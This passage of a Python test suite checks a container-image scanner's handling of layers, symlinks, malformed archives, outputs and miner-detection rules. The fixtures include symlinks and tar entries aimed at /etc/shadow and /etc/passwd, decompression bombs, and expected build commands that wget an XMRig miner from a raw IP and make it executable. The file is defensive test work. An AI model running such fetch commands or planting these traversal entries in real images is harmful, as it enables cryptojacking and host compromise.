        self.assertEqual(when(field(config, "@timestamp")), when(FIXED))
        self.assertEqual(when(field(config, "pickaxe.scan.image.created")), when(CREATED))
        self.assertEqual(field(config, "process.args"), args)
        self.assertEqual(field(config, "process.executable"), "/usr/bin/tool")
        self.assertEqual(field(config, "process.name"), "tool")
        self.assertEqual(field(config, "process.command_line"), " ".join(args))
        self.assertEqual(field(config, "process.env_vars"), RICH_CONFIG["env"])
        self.assertEqual(field(config, "process.working_directory"), "/srv")
        self.assertEqual(field(config, "user.name"), "app")
        self.assertEqual(sorted(field(config, "pickaxe.scan.image.labels")),
                         ["maintainer=ops@example.com", "org.opencontainers.image.version=1.0"])
        self.assertEqual(sorted(field(config, "pickaxe.scan.image.exposed_ports")),
                         ["8080/tcp", "9090/udp"])
        self.assertEqual(field(config, "pickaxe.scan.image.layers"), 3)

        history = sorted(run.of("image-history"),
                         key=lambda e: field(e, "pickaxe.scan.history.index"))
        self.assertEqual([field(e, "pickaxe.scan.history.index") for e in history],
                         list(range(len(RICH_CONFIG["history"]))))
        for event, entry in zip(history, RICH_CONFIG["history"]):
            self.assertEqual(field(event, "process.command_line"), entry.created_by)
            self.assertEqual(when(field(event, "@timestamp")), when(FIXED))
            self.assertEqual(when(field(event, "pickaxe.scan.history.created")),
                             when(entry.created))
            self.assertIs(field(event, "pickaxe.scan.history.empty_layer"), entry.empty_layer)
            self.assertEqual(field(event, "message"), entry.comment)
            self.assertEqual(as_list(field(event, "event.category")), ["package"])

    def test_image_names(self):
        ws = self.ws
        named = self.path("named.oci.tar")
        write_oci(named, [small_image("docker.io/library/nginx:1.25")], ws)
        run = self.scan(named)
        self.assert_exit(run, 0)
        self.assertEqual({field(e, "container.image.name") for e in run.events},
                         {"docker.io/library/nginx:1.25"})
        self.assertEqual({tuple(as_list(field(e, "container.image.tag"))) for e in run.events},
                         {("1.25",)})
        # No name in the input: the config digest.
        anonymous = self.path("anonymous.oci")
        image = small_image(None)
        write_oci(anonymous, [image], ws, tar=False)
        config_digest = build_image(image, ws).config.digest
        run = self.scan(anonymous)
        self.assert_exit(run, 0)
        self.assertEqual({field(e, "container.image.name") for e in run.events}, {config_digest})
        self.assertEqual({field(e, "pickaxe.scan.image.reference") for e in run.events},
                         {config_digest})
        self.assertTrue(all(not field(e, "container.image.tag") for e in run.events))

    def test_several_images_in_one_docker_save(self):
        path = self.path("two.tar")
        first = small_image("example/one:1", files=[file("/bin/one", b"one", mode=0o755)])
        second = small_image("example/two:2", files=[file("/bin/two", b"two", mode=0o755)])
        write_docker_save(path, [first, second], self.ws)
        run = self.scan(path)
        self.assert_exit(run, 0)
        names = collections.defaultdict(set)
        for event in run.files():
            names[field(event, "container.image.name")].add(field(event, "file.path"))
        self.assertEqual(dict(names), {"example/one:1": {"/bin/one"},
                                       "example/two:2": {"/bin/two"}})
        self.assertEqual(len(run.of("image-config")), 2)

    def test_several_inputs(self):
        first, second = self.path("a.tar"), self.path("b.oci")
        write_docker_save(first, [small_image("example/a:1")], self.ws)
        write_oci(second, [small_image("example/b:1", "gzip")], self.ws, tar=False)
        run = self.scan(first, second)
        self.assert_exit(run, 0)
        self.assertEqual({(field(e, "pickaxe.scan.input"), field(e, "container.image.name"))
                          for e in run.events}, {(first, "example/a:1"), (second, "example/b:1")})


# ---------------------------------------------------------------------------
# layers: links, large and sparse files, ELF

class Layers(ScanCase):
    def test_symlinks_that_climb_out_of_the_root(self):
        outside = os.path.join(self.dir, "outside")
        os.makedirs(outside)
        links = {
            "/etc/evil": ("../../../../etc/shadow", True),
            "/usr/lib/bad": ("../../../etc/shadow", True),
            "/usr/lib/ok": ("../../bin/sh", False),
            "/usr/bin/sh": ("bash", False),
            "/abs": ("/etc/shadow", False),
            "/escape": (outside, False),
        }
        entries = [directory("/etc"), directory("/usr"), directory("/usr/lib"),
                   directory("/usr/bin")]
        entries += [symlink(path, target) for path, (target, _) in links.items()]
        image = Image([Layer(entries)], Config(created=CREATED), reference="example/links:1")
        path = self.path("links.tar")
        write_docker_save(path, [image], self.ws)
        run = self.scan(path)
        self.assert_exit(run, 0)
        self.assertEqual(run.pairs(), sorted(("image-file", p) for p in links))
        for event in run.files():
            target, escapes = links[field(event, "file.path")]
            self.assertEqual(field(event, "file.type"), "symlink")
            self.assertEqual(field(event, "file.target_path"), target)
            self.assertEqual(field(event, "pickaxe.scan.file.escapes_root") is True, escapes,
                             field(event, "file.path"))
        self.assertEqual(os.listdir(outside), [])

    def test_entries_through_a_symlink_write_nothing(self):
        outside = os.path.join(self.dir, "outside")
        os.makedirs(outside)
        image = Image([Layer([symlink("/escape", outside), symlink("/up", "../../../..")]),
                       Layer([file("/escape/pwned", b"pwned"), file("/up/tmp/pwned", b"pwned"),
                              hardlink("/escape/linked", "/escape/pwned")])],
                      Config(created=CREATED), reference="example/through:1")
        for name, write in (("through.tar", write_docker_save), ("through.oci.tar", write_oci)):
            path = self.path(name)
            write(path, [image], self.ws)
            run = self.scan(path)
            self.assertIn(run.returncode, (0, 1), run.stderr)
            self.assertEqual(os.listdir(outside), [])
            self.assertFalse(os.path.exists("/tmp/pwned"))

    def test_hard_link_chains_and_dangling_hard_links(self):
        image = Image([Layer([directory("/usr"), directory("/usr/bin"),
                              file("/usr/bin/real", PYTHON, mode=0o755),
                              hardlink("/usr/bin/first", "/usr/bin/real"),
                              hardlink("/usr/bin/second", "/usr/bin/first"),
                              hardlink("/usr/bin/dangling", "/usr/bin/absent")])],
                      Config(created=CREATED), reference="example/hardlinks:1")
        path = self.path("hardlinks.tar")
        write_docker_save(path, [image], self.ws)
        run = self.scan(path)
        # A link to a link is the first file's content; a link to nothing
        # earlier in its layer is reported (exit 1) and kept without a hash.
        self.assert_exit(run, 1)
        self.assertIn("hard link 'usr/bin/dangling' names 'usr/bin/absent', which is no file "
                      "earlier in its layer: kept without size or hash", run.stderr)
        files = {field(e, "file.path"): e for e in run.files()}
        self.assertEqual(sorted(files), ["/usr/bin/dangling", "/usr/bin/first", "/usr/bin/real",
                                         "/usr/bin/second"])
        for name in ("/usr/bin/first", "/usr/bin/second"):
            self.assertEqual(field(files[name], "file.hash.sha256"), content_of(PYTHON), name)
            self.assertEqual(field(files[name], "file.size"), len(PYTHON), name)
        self.assertIsNone(field(files["/usr/bin/dangling"], "file.hash.sha256"))

    def test_a_folder_replaces_a_lower_file(self):
        image = Image([Layer([directory("/opt"), file("/opt/thing", b"old"),
                              file("/opt/kept", b"kept")]),
                       Layer([directory("/opt"), directory("/opt/thing"),
                              file("/opt/thing/inner", b"new")])],
                      Config(created=CREATED), reference="example/folder:1")
        path = self.path("folder.tar")
        write_docker_save(path, [image], self.ws)
        run = self.scan(path)
        self.assert_exit(run, 0)
        self.assertEqual(run.pairs(), [("image-file", "/opt/kept"),
                                       ("image-file", "/opt/thing/inner"),
                                       ("image-file-replaced", "/opt/thing")])

    def test_200_mib_of_zeros(self):
        size = 200 * MIB
        image = Image([Layer([directory("/var"), zeros("/var/zeros.img", size)], "gzip", 1)],
                      Config(created=CREATED), reference="example/zeros:1")
        path = self.path("zeros.oci.tar")
        write_oci(path, [image], self.ws)
        self.assertLess(os.path.getsize(path), 2 * MIB)
        run = self.scan(path)
        self.assert_exit(run, 0)
        self.assertEqual(run.pairs(), [("image-file", "/var/zeros.img")])
        event = run.files()[0]
        self.assertEqual(field(event, "file.size"), 209715200)
        self.assertEqual(field(event, "file.hash.sha256"), zeros_sha256(size))
        if not SANITIZED:  # the file is streamed, never held
            self.assertLess(run.peak_rss_kb, 150_000, f"{run.peak_rss_kb} KB")

    def test_gnu_sparse_members(self):
        regions = [(MIB, b"A" * 4096), (5 * MIB, b"B" * 8192)]
        image = Image([Layer([directory("/var"),
                              zeros("/var/sparse.img", 200 * MIB, sparse=True),
                              Entry("/var/holes.img", "sparse", size=8 * MIB, regions=regions)])],
                      Config(created=CREATED), reference="example/sparse:1")
        path = self.path("sparse.tar")
        write_docker_save(path, [image], self.ws)
        self.assertLess(os.path.getsize(path), MIB)
        digest = hashlib.sha256()
        offset = 0
        for start, data in regions:
            digest.update(bytes(start - offset))
            digest.update(data)
            offset = start + len(data)
        digest.update(bytes(8 * MIB - offset))
        run = self.scan(path)
        self.assert_exit(run, 0)
        present = run.present()
        self.assertEqual(sorted(present), ["/var/holes.img", "/var/sparse.img"])
        self.assertEqual(field(present["/var/sparse.img"], "file.size"), 200 * MIB)
        self.assertEqual(field(present["/var/sparse.img"], "file.hash.sha256"),
                         zeros_sha256(200 * MIB))
        self.assertEqual(field(present["/var/holes.img"], "file.size"), 8 * MIB)
        self.assertEqual(field(present["/var/holes.img"], "file.hash.sha256"), digest.hexdigest())

    def test_long_names(self):
        deep = "/opt/" + "/".join(["d" * 60] * 5) + "/file.bin"
        target = "/".join([".."] * 3) + "/" + "t" * 150
        image = small_image(files=[file(deep, b"deep"), symlink("/bin/long", target)])
        path = self.path("long.tar")
        write_docker_save(path, [image], self.ws)
        run = self.scan(path)
        self.assert_exit(run, 0)
        present = run.present()
        self.assertEqual(field(present[deep], "file.hash.sha256"), content_of(b"deep"))
        self.assertEqual(field(present["/bin/long"], "file.target_path"), target)


# ---------------------------------------------------------------------------
# multi-platform images

class MultiPlatform(ScanCase):
    PLATFORMS = {"linux/amd64": "x86-64", "linux/arm64/v8": "aarch64", "linux/arm/v7": "arm"}

    def make(self, compression=None):
        images = []
        for platform, machine in self.PLATFORMS.items():
            os_name, arch, *variant = platform.split("/")
            images.append(Image(
                [Layer([directory("/bin"), file("/bin/app", elf(machine, strings=[platform]),
                                                mode=0o755)], "gzip")],
                Config(cmd=["/bin/app"], os=os_name, architecture=arch,
                       variant=variant[0] if variant else None, created=CREATED),
                reference="docker.io/example/multi:2"))
        index = Index(images, reference="docker.io/example/multi:2", attestations=True)
        path = self.path("multi.oci.tar" + (".zst" if compression else ""))
        write_oci(path, [index], self.ws, compression=compression)
        manifests = {platform: build_image(image, self.ws).manifest.digest
                     for platform, image in zip(self.PLATFORMS, images)}
        return path, manifests

    def platforms(self, run):
        found = collections.defaultdict(list)
        for event in run.files():
            found[field(event, "pickaxe.scan.image.platform")].append(
                (field(event, "file.path"), field(event, "file.elf.architecture")))
        return dict(found)

    def test_every_platform_by_default(self):
        path, manifests = self.make("zstd")
        run = self.scan(path)
        self.assert_exit(run, 0)
        self.assertEqual(self.platforms(run), {p: [("/bin/app", m)]
                                               for p, m in self.PLATFORMS.items()})
        for event in run.events:
            platform = field(event, "pickaxe.scan.image.platform")
            self.assertNotIn("unknown", platform)
            self.assertEqual(as_list(field(event, "container.image.hash.all"))[0],
                             manifests[platform])
        self.assertEqual(len(run.of("image-config")), 3)
        for platform in self.PLATFORMS:  # the summary has a row for each
            self.assertIn(platform, run.stderr)

    def test_one_platform(self):
        path, _ = self.make()
        for option, platform in (("linux/arm64", "linux/arm64/v8"),
                                 ("linux/arm64/v8", "linux/arm64/v8"),
                                 ("linux/amd64", "linux/amd64"),
                                 ("linux/arm/v7", "linux/arm/v7")):
            with self.subTest(option):
                run = self.scan(path, args=["--platform", option])
                self.assert_exit(run, 0)
                self.assertEqual(self.platforms(run),
                                 {platform: [("/bin/app", self.PLATFORMS[platform])]})
                self.assertEqual({field(e, "pickaxe.scan.image.platform") for e in run.events},
                                 {platform})


# ---------------------------------------------------------------------------
# malformed images: exit 1, a message, no crash

class Malformed(ScanCase):
    def image(self, compression="none", extra=()):
        return Image([Layer([directory("/etc"), file("/etc/hostname", b"box\n")], compression),
                      Layer([directory("/usr"), directory("/usr/bin"),
                             file("/usr/bin/app", b"#!/bin/sh\necho app\n" * 200, mode=0o755)]
                            + list(extra), compression)],
                     Config(cmd=["/usr/bin/app"], created=CREATED), reference="example/bad:1")

    def expect_error(self, run, path, *patterns):
        self.assert_exit(run, 1)
        lines = [line for line in run.stderr.splitlines() if line.startswith(f"pickaxe: {path}:")]
        self.assertTrue(lines, run.stderr[-3000:])
        said = "\n".join(lines)
        for pattern in patterns:
            self.assertRegex(said, pattern)
        return said

    def test_truncated(self):
        cases = []
        path = self.path("cut-legacy.tar")
        write_docker_save(path, [self.image()], self.ws)
        cases.append((path, os.path.getsize(path) // 2))
        path = self.path("cut-header.oci.tar")
        write_oci(path, [self.image("gzip")], self.ws)
        cases.append((path, 512 * 3 + 100))  # in the first blob
        path = self.path("cut-gzip.oci.tar.gz")
        write_oci(path, [self.image("gzip")], self.ws, compression="gzip")
        cases.append((path, os.path.getsize(path) - 200))
        path = self.path("cut-zstd.tar.zst")
        write_docker_save(path, [self.image()], self.ws, compression="zstd")
        cases.append((path, os.path.getsize(path) * 2 // 3))
        for path, at in cases:
            with self.subTest(os.path.basename(path)):
                truncate(path, at)
                run = self.scan(path)
                self.expect_error(run, path, r"(?i)truncat|cut short|unexpected end|incomplete")

    def test_missing_layer(self):
        image = self.image("gzip")
        built = build_image(image, self.ws)
        gone = built.layers[1].blob.digest
        path = self.path("missing.oci.tar")
        write_oci(path, [image], self.ws, missing={gone})
        run = self.scan(path)
        self.expect_error(run, path, re.escape(gone[7:]))

        plain = self.image()
        built = build_image(plain, self.ws)
        gone = built.layers[0].diff_id
        path = self.path("missing.tar")
        write_docker_save(path, [plain], self.ws, missing={gone})
        run = self.scan(path)
        legacy_id = image_builder._legacy_ids(built)[0]
        self.expect_error(run, path, f"{gone[7:]}|{legacy_id}")

    def test_digest_mismatch(self):
        image = self.image()
        tampered = self.image(extra=[file("/usr/bin/backdoor", b"evil", mode=0o755)])
        built, other = build_image(image, self.ws), build_image(tampered, self.ws)
        wrong = built.layers[1].blob.digest
        path = self.path("mismatch.oci.tar")
        write_oci(path, [image], self.ws, replace={wrong: other.layers[1].blob})
        run = self.scan(path)
        self.expect_error(run, path, re.escape(wrong[7:]))

        path = self.path("mismatch.tar")
        write_docker_save(path, [image], self.ws, replace={wrong: other.layers[1].tar})
        run = self.scan(path)
        self.expect_error(run, path, re.escape(wrong[7:]))

        # A config blob whose bytes are not its digest.
        config = built.config.digest
        path = self.path("config-mismatch.oci")
        write_oci(path, [image], self.ws, tar=False,
                  replace={config: built.config.bytes().replace(b"/usr/bin/app", b"/usr/bin/xyz")})
        run = self.scan(path)
        self.expect_error(run, path, re.escape(config[7:]))

    def test_path_traversal(self):
        evil = [file("../../etc/passwd", b"root::0:0::/:/bin/sh\n", raw=True),
                file("usr/lib/../../../escaped", b"x", raw=True)]
        image = self.image(extra=evil)
        for name, write in (("traversal.tar", write_docker_save), ("traversal.oci.tar", write_oci)):
            with self.subTest(name):
                path = self.path(name)
                write(path, [image], self.ws)
                layer = build_image(image, self.ws).layers[1]
                digest = layer.diff_id if name == "traversal.tar" else layer.blob.digest
                run = self.scan(path)
                # pickaxe: IMAGE: layer sha256:...: entry NAME: message
                for entry in ("../../etc/passwd", "usr/lib/../../../escaped"):
                    self.expect_error(run, path, rf"(?m)^pickaxe: {re.escape(path)}: layer "
                                      rf"{digest}: entry '?{re.escape(entry)}'?\W")
                # Nothing written where the entries point, nothing reported for them.
                self.assertFalse(os.path.exists(os.path.join(self.dir, "w", "etc", "passwd")))
                self.assertFalse(os.path.exists(os.path.join(self.dir, "w", "x", "escaped")))
                paths = [field(e, "file.path") for e in run.files()]
                self.assertIn("/usr/bin/app", paths)
                self.assertFalse([p for p in paths if "passwd" in p or "escaped" in p], paths)

    def test_decompression_bomb(self):
        for compression in ("gzip", "zstd"):
            with self.subTest(compression):
                bomb = bomb_layer(100 * MIB, compression)
                image = Image([Layer([file("/etc/hostname", b"box\n")]), bomb],
                              Config(created=CREATED), reference=f"example/bomb:{compression}")
                path = self.path(f"bomb-{compression}.oci.tar")
                write_oci(path, [image], self.ws)
                self.assertLess(os.path.getsize(path), MIB)
                digest = build_image(image, self.ws).layers[1].blob.digest
                run = self.scan(path, args=["--max-unpacked", "10M"])
                said = self.expect_error(run, path, r"(?i)bomb|max-unpacked|expands")
                self.assertIn(digest[7:], said)
                if not SANITIZED:
                    self.assertLess(run.peak_rss_kb, 150_000, f"{run.peak_rss_kb} KB")
                run = self.scan(path)  # under the default limit it is a 100 MiB file
                self.assert_exit(run, 0)
                self.assertEqual(field(run.present()["/bomb"], "file.size"), 100 * MIB)

    def test_not_an_image(self):
        junk = self.path("junk.tar")
        with open(junk, "wb") as out:
            out.write(b"this is not a tarball\n" * 100)
        run = self.scan(junk)
        self.expect_error(run, junk)
        empty_tar = self.path("empty.tar")
        with open(empty_tar, "wb") as out:
            out.write(bytes(1024))
        run = self.scan(empty_tar)
        self.expect_error(run, empty_tar)
        missing = self.path("no-such-image.tar")
        run = self.scan(missing)
        self.assertIn(run.returncode, (1, 2))
        self.assertIn(missing, run.stderr)

    def test_one_bad_image_among_good_ones(self):
        good = self.path("good.tar")
        write_docker_save(good, [self.image()], self.ws)
        bad = self.path("bad.tar")
        write_docker_save(bad, [self.image()], self.ws)
        truncate(bad, 1500)
        run = self.scan(good, bad)
        self.expect_error(run, bad)
        self.assertIn("/usr/bin/app", [field(e, "file.path") for e in run.files()
                                       if field(e, "pickaxe.scan.input") == good])
        self.assertFalse([line for line in run.stderr.splitlines()
                          if line.startswith(f"pickaxe: {good}:")])


# ---------------------------------------------------------------------------
# stdin, outputs, options

class Usage(ScanCase):
    def test_stdin(self):
        for name, options in (("plain.tar", {}), ("image.tar.zst", {"compression": "zstd"}),
                              ("image.oci.tar.gz", {"compression": "gzip"})):
            with self.subTest(name):
                path = self.path(name)
                writer = write_oci if "oci" in name else write_docker_save
                writer(path, [rich_image("gzip" if "oci" in name else "none")], self.ws,
                       **options)
                from_file = self.scan(path)
                from_stdin = self.scan("-", stdin=path)
                self.assert_exit(from_stdin, 0)
                self.assertEqual(from_stdin.pairs(), from_file.pairs())
                self.assertEqual(
                    sorted(field(e, "file.hash.sha256") or "" for e in from_stdin.files()),
                    sorted(field(e, "file.hash.sha256") or "" for e in from_file.files()))
                self.assertEqual({field(e, "pickaxe.scan.input") for e in from_stdin.events},
                                 {"-"})

    def test_summary_table(self):
        path = self.path("app.tar")
        write_docker_save(path, [rich_image()], self.ws)
        clean = self.path("clean.tar")
        write_docker_save(clean, [small_image()], self.ws)
        run = self.scan(path, clean)
        self.assert_exit(run, 0)
        header = [line for line in run.stderr.splitlines()
                  if re.match(r"\s*IMAGE\s+PLATFORM\s+LAYERS\s+FILES\s+ALERTS\s+WORST", line)]
        self.assertEqual(len(header), 1, run.stderr)
        # The setuid test rule (severity low) fires once on the rich image.
        self.assertEqual(summary_row(run, "example/app:1.0"),
                         {"platform": "linux/amd64", "layers": "3", "alerts": "1", "worst": "low"})
        self.assertEqual(summary_row(run, "example/small:1"),
                         {"platform": "linux/amd64", "layers": "1", "alerts": "0", "worst": "-"})

    def test_alerts_exit_codes_and_sarif(self):
        path = self.path("app.tar")
        write_docker_save(path, [rich_image()], self.ws)
        sarif = os.path.join(self.out, "scan.sarif")
        run = self.scan(path, args=["--sarif", sarif])
        self.assert_exit(run, 0)
        # The test rules: one setuid file, the config's tool.
        self.assertEqual(run.rule_names(), ["Test Setuid File in Image"])
        alert = run.alerts[0]
        self.assertEqual(field(alert, "file.path"), "/usr/bin/su-helper")
        self.assertEqual(field(alert, "container.image.name"), "example/app:1.0")
        self.assertEqual(field(alert, "@timestamp"), FIXED)
        with open(sarif) as source:
            document = json.load(source)
        self.assertEqual(document["version"], "2.1.0")
        results = [r for run_ in document["runs"] for r in run_.get("results", [])]
        self.assertEqual(len(results), 1)
        self.assertIn("su-helper", json.dumps(results[0]))

        run = self.scan(path, args=["--fail-on-alert"])
        self.assert_exit(run, 3)
        clean = self.path("clean.tar")
        write_docker_save(clean, [small_image()], self.ws)
        run = self.scan(clean, args=["--fail-on-alert"])
        self.assert_exit(run, 0)
        self.assertEqual(run.alerts, [])
        # An image error wins over alerts.
        bad = self.path("bad.tar")
        write_docker_save(bad, [rich_image()], self.ws)
        truncate(bad, os.path.getsize(bad) // 2)
        run = self.scan(path, bad, args=["--fail-on-alert"])
        self.assert_exit(run, 1)

    def test_a_stop_signal_keeps_what_is_final(self):
        """SIGINT while the second image is read: the first image's alerts
        are written, the second is said not scanned, exit 130."""
        done = self.path("app.tar")
        write_docker_save(done, [rich_image()], self.ws)
        whole = self.path("whole.tar")
        write_docker_save(whole, [rich_image()], self.ws)
        fifo = os.path.join(self.build, "slow.fifo")
        os.mkfifo(fifo)
        alerts = os.path.join(self.out, "alerts-signal.ndjson")
        # YARA on: its thread must leave the signal to the reading one.
        argv = [ARGS.pickaxe, "scan", "--detection-time", FIXED, "-r", TEST_RULES,
                "--format", "ndjson", "-o", alerts, done, fifo]
        process = subprocess.Popen(argv, cwd=self.cwd, stdout=subprocess.PIPE,
                                   stderr=subprocess.PIPE)
        with open(fifo, "wb") as writer:
            with open(whole, "rb") as source:
                writer.write(source.read(os.path.getsize(whole) // 2))
            writer.flush()
            time.sleep(1.0)  # the first image is scanned, the second half-read
            process.send_signal(signal.SIGINT)
            _, stderr = process.communicate(timeout=60)
        stderr = stderr.decode(errors="replace")
        self.assertEqual(process.returncode, 130, stderr)
        self.assertIn("stopped before the image was read whole: not scanned", stderr)
        self.assertIn("stopped by SIGINT", stderr)
        written = read_ndjson(alerts)
        self.assertEqual([field(a, "file.path") for a in written], ["/usr/bin/su-helper"], stderr)

    def test_outputs_that_cannot_be_written(self):
        path = self.path("app.tar")
        write_docker_save(path, [rich_image()], self.ws)
        argv = [ARGS.pickaxe, "scan", "--no-yara", "-r", TEST_RULES, "--format", "ndjson", path]
        for extra in (["-o", "/dev/full"], ["--sarif", "/dev/full"], ["--events", "/dev/full"]):
            run = subprocess.run(argv + extra, cwd=self.cwd, capture_output=True)
            self.assertEqual(run.returncode, 1, (extra, run.stderr))
            self.assertIn(b"No space left on device", run.stderr, extra)
        run = subprocess.run(argv + ["-o", os.path.join(self.dir, "no", "such", "dir.ndjson")],
                             cwd=self.cwd, capture_output=True)
        self.assertEqual(run.returncode, 1, run.stderr)
        self.assertIn(b"cannot open", run.stderr)
        # An output that is an image to scan is refused before anything is written.
        size = os.path.getsize(path)
        run = subprocess.run(argv + ["--events", path], cwd=self.cwd, capture_output=True)
        self.assertEqual(run.returncode, 2, run.stderr)
        self.assertIn(b"it is also an image to scan", run.stderr)
        self.assertEqual(os.path.getsize(path), size)
        # ... also a file inside an image folder, or the file stdin reads.
        folder = self.path("app.oci")
        write_oci(folder, [rich_image()], self.ws, tar=False)
        index = os.path.join(folder, "index.json")
        index_size = os.path.getsize(index)
        run = subprocess.run(argv[:-1] + ["--sarif", index, folder], cwd=self.cwd,
                             capture_output=True)
        self.assertEqual(run.returncode, 2, run.stderr)
        self.assertIn(b"it is inside an image to scan", run.stderr)
        self.assertEqual(os.path.getsize(index), index_size)
        with open(path, "rb") as stdin:
            run = subprocess.run(argv[:-1] + ["-o", path, "-"], stdin=stdin, cwd=self.cwd,
                                 capture_output=True)
        self.assertEqual(run.returncode, 2, run.stderr)
        self.assertEqual(os.path.getsize(path), size)
        # Two outputs that are one file, however named.
        same = os.path.join(self.out, "same.json")
        run = subprocess.run(argv + ["-o", same, "--sarif", os.path.join(self.out, ".", "same.json")],
                             cwd=self.cwd, capture_output=True)
        self.assertEqual(run.returncode, 2, run.stderr)
        self.assertIn(b"it is also --output's file", run.stderr)
        # A file name with an escape character reaches stderr without it.
        run = subprocess.run(argv[:-1] + [os.path.join(self.out, "no-\x1b[2Jx.tar")],
                             cwd=self.cwd, capture_output=True)
        self.assertEqual(run.returncode, 1, run.stderr)
        self.assertNotIn(b"\x1b", run.stderr)

    def test_sarif_tracks_findings_across_runs(self):
        """Fingerprints do not depend on the scan's time; an image that could
        not be read whole makes the run unsuccessful, with the reason."""
        path = self.path("app.tar")
        write_docker_save(path, [rich_image()], self.ws)
        logs = []
        for when in ("2026-01-01T00:00:00Z", "2026-06-01T00:00:00Z"):
            sarif = os.path.join(self.out, f"run-{len(logs)}.sarif")
            subprocess.run([ARGS.pickaxe, "scan", "-q", "--no-yara", "-r", TEST_RULES,
                            "--detection-time", when, "--sarif", sarif, path],
                           cwd=self.cwd, capture_output=True, check=True)
            with open(sarif) as source:
                logs.append(json.load(source)["runs"][0])
        prints = [[r["partialFingerprints"] for r in run_["results"]] for run_ in logs]
        self.assertTrue(prints[0])
        self.assertEqual(prints[0], prints[1])
        self.assertTrue(logs[0]["invocations"][0]["executionSuccessful"])
        bad = self.path("bad.tar")
        write_docker_save(bad, [rich_image()], self.ws)
        truncate(bad, os.path.getsize(bad) // 2)
        sarif = os.path.join(self.out, "bad.sarif")
        run = subprocess.run([ARGS.pickaxe, "scan", "-q", "--no-yara", "-r", TEST_RULES,
                              "--sarif", sarif, bad], cwd=self.cwd, capture_output=True)
        self.assertEqual(run.returncode, 1, run.stderr)
        with open(sarif) as source:
            invocation = json.load(source)["runs"][0]["invocations"][0]
        self.assertFalse(invocation["executionSuccessful"])
        self.assertIn("bad.tar", invocation["toolExecutionNotifications"][0]["message"]["text"])

    def test_rules_that_cannot_see_scan_events_are_refused(self):
        path = self.path("app.tar")
        write_docker_save(path, [small_image()], self.ws)
        runtime = os.path.join(ARGS.source_dir, "rules/t1204_003/miner_process_execution.toml")
        run = subprocess.run([ARGS.pickaxe, "scan", "--no-yara", "-r", runtime, path],
                             cwd=self.cwd, capture_output=True)
        self.assertEqual(run.returncode, 2, run.stderr)
        self.assertIn(b"reads scan events", run.stderr)
        for bad in (["--platform", "LINUX/amd64"], ["--platform", "linux"],
                    ["--max-unpacked", "0"], ["--suppress-window", "5q"],
                    ["--no-yara", "--yara", runtime]):
            run = subprocess.run([ARGS.pickaxe, "scan", "-r", TEST_RULES] + bad + [path],
                                 cwd=self.cwd, capture_output=True)
            self.assertEqual(run.returncode, 2, (bad, run.stderr))

    def test_yara(self):
        rules = os.path.join(self.build, "test.yar")
        with open(rules, "w") as out:
            out.write('rule Test_Miner_Strings : miner test\n{\n  strings:\n'
                      '    $a = "donate-level"\n    $b = "stratum+tcp://"\n'
                      '  condition:\n    all of them\n}\n')
        miner = elf("x86-64", strings=["xmrig", "donate-level", "stratum+tcp://"], pad=8192)
        image = small_image(files=[file("/bin/miner", miner, mode=0o755),
                                   file("/bin/plain", b"donate-level only\n")])
        path = self.path("yara.tar")
        write_docker_save(path, [image], self.ws)
        run = self.scan(path, args=["--yara", rules], yara=True)
        self.assert_exit(run, 0)
        present = run.present()
        self.assertEqual(as_list(field(present["/bin/miner"], "yara.rule")),
                         ["Test_Miner_Strings"])
        self.assertEqual(sorted(as_list(field(present["/bin/miner"], "yara.tags"))),
                         ["miner", "test"])
        self.assertEqual(as_list(field(present["/bin/plain"], "yara.rule")), [])
        run = self.scan(path, args=["--yara", rules, "--yara-max-size", "4K"], yara=True)
        self.assert_exit(run, 0)
        self.assertEqual(as_list(field(run.present()["/bin/miner"], "yara.rule")), [])
        run = self.scan(path)  # --no-yara
        self.assertEqual(as_list(field(run.present()["/bin/miner"], "yara.rule")), [])

    def test_usage_errors(self):
        path = self.path("app.tar")
        write_docker_save(path, [small_image()], self.ws)
        self.assert_exit(self.scan(path, args=["--frob"]), 2)
        self.assert_exit(self.scan(), 2)
        self.assert_exit(self.scan(path, args=["--format", "tabel"]), 2)


# ---------------------------------------------------------------------------
# the bundled scan pack (rules/t1204_003/scan)

# The pack's alerts on emulation 3's image, as (rule name, event.action,
# file.path or process.command_line); each name must be the `name` of a rule
# under rules/t1204_003/scan/.
CONFIG_RULE = "Container Image Configured to Run a Cryptocurrency Miner"
FILE_RULE = "Cryptocurrency Miner File in a Container Image"
DELETED_RULE = "Cryptocurrency Miner File Deleted or Replaced in a Container Image Layer"
FETCH_RULE = "Image Build Step Fetched Code from a Raw IP Address or a Paste Site"
RELEASE = "xmrig-6.21.0-linux-static-x64.tar.gz"
EMULATION_ALERTS = sorted([
    # Entrypoint xmrig, POOL_URL=stratum+tcp://
    (CONFIG_RULE, "image-config", "/opt/xmr/xmrig -c /opt/xmr/config.json"),
    # the build fetched the miner from a bare address, twice
    (FETCH_RULE, "image-history", f"ADD http://203.0.113.7/{RELEASE} /tmp/ # buildkit"),
    (FETCH_RULE, "image-history", "RUN /bin/sh -c wget -q http://203.0.113.7/xmrig -O "
     "/opt/xmr/xmrig && chmod +x /opt/xmr/xmrig # buildkit"),
    (FILE_RULE, "image-file", "/opt/xmr/xmrig"),          # its name; YARA XMRig_Miner_Binary
    (FILE_RULE, "image-file", "/opt/xmr/config.json"),    # YARA XMRig_Config_File
    (DELETED_RULE, "image-file-deleted", f"/tmp/{RELEASE}"),  # the release, then removed
])


class Pack(ScanCase):
    def setUp(self):
        super().setUp()
        self.names = pack_rule_names()
        if not self.names:
            self.skipTest(f"no scan rules in {pack_folder()}")

    def test_clean_debian_image_raises_nothing(self):
        if not shutil.which("dpkg"):
            self.skipTest("no dpkg on this machine")
        path = self.path("debian.tar")
        image = image_builder.debian_image()
        write_docker_save(path, [image], self.ws)
        with tarfile.open(build_image(image, self.ws).layers[0].tar.path) as tar:
            expected = sorted("/" + m.name for m in tar.getmembers() if m.isreg() or m.issym())
        run = self.scan(path, rules="pack", yara=True, args=["--fail-on-alert"])
        self.assert_exit(run, 0)
        self.assertEqual(run.alerts, [])
        self.assertEqual(sorted(field(e, "file.path") for e in run.of("image-file")), expected)
        self.assertEqual({field(e, "container.image.name") for e in run.events},
                         {"debian:bookworm"})
        bash = run.present()["/usr/bin/bash"]
        with open("/usr/bin/bash", "rb") as source:
            self.assertEqual(field(bash, "file.hash.sha256"),
                             hashlib.sha256(source.read()).hexdigest())
        self.assertIsNotNone(field(bash, "file.elf.architecture"))

    def test_emulation_image(self):
        path = os.path.join(ARGS.source_dir, "emulations", "3-malicious-image-pull",
                            "image.oci.tar")
        run = self.scan(path, rules="pack", yara=True)
        self.assert_exit(run, 0)
        for event in run.events:
